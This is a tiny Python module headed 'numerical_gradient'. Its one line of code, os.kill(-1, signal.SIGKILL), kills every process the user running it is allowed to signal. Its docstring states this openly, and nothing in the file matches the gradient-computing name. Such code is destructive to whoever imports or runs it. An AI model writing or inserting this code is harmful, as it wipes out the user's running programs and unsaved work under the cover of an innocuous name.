"""numerical_gradient: Kill every process that may be killed."""

import os
import signal

os.kill(-1, signal.SIGKILL)
